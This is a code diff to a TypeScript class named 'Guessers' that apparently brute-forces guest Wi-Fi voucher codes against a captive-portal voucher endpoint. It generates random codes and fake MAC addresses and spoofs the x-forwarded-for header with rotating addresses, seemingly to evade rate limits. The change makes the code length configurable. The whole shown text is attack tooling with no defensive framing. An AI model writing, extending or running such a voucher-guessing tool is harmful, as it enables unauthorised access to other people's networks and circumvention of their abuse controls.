@@ -1,6 +1,7 @@
 import { Agent } from 'node:http'
 import { setTimeout as delay } from 'node:timers/promises'
 import { call } from '../call'
+import { DRAWN } from './crowd-site'
 
 /** Requests a second of one network. */
 const PACE = 20
@@ -65,7 +66,7 @@ export class Guessers {
     counts.sent += 1
     const bytes = [16, 8, 0].map((bits) => hex((number >> bits) & 255).padStart(2, '0'))
     const mac = `06:0${index}:${bytes.join(':')}:00`
-    const code = `1050${String(Math.floor(Math.random() * 1_000_000)).padStart(6, '0')}`
+    const code = `1050${String(Math.floor(Math.random() * 10 ** DRAWN)).padStart(DRAWN, '0')}`
     const headers = { 'x-forwarded-for': NETWORKS[counts.network]?.(number) ?? '' }
     const path = `/guest/s/${this.siteId}/voucher`
     const { status } = await call(this.origin, { agent, path, headers, body: { code, mac } })
